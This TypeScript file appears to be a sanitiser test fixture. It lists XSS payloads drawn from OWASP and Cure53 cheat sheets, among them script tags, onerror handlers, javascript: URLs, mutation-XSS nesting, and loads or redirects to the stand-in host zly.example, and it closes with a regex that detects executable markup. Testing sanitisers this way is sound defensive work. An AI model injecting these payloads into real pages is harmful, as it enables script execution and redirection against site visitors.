/**
 * What hostile pages put between their paragraphs, after the cheat sheets of OWASP and Cure53 and the reports on
 * sanitisers: each runs `alert(1)` or asks `https://zly.example` for something where it is let.
 */
export const hostileVectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" &#1;javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form action="https://zly.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://zly.example/inna">',
  '<base href="javascript:alert(1)//">',
  '<p style="position:fixed;inset:0;background:url(https://zly.example/p.gif)">x</p>',
  '<link rel="stylesheet" href="https://zly.example/s.css">',
  '<video poster="javascript:alert(1)"><source onerror="alert(1)" src="x.mp4"></video>',
  '<object data="https://zly.example/o.swf"><embed src="https://zly.example/o.swf"></object>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<table><caption><svg><title><p id="</title><img src=x onerror=alert(1)>"></p></table>',
  '<p><sup><a href="#n">1</a></sup></p><p id="n"><img src=x onerror=alert(1)>nota</p>',
  '<figure style="background:url(javascript:alert(1))"></figure>',
  '<noscript><img src="x" onerror="alert(1)"></noscript>',
  '<a href="java&Tab;script&colon;alert(1)">a</a>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
];

/** What nothing that is shown may hold. */
export const EXECUTABLE =
  /<script|<iframe|<object|<embed|<form|<input|<button|<style|<link|<meta|<base|<svg|<template|\son\w+\s*=|javascript:|data:text|data:image\/svg|style\s*=/i;
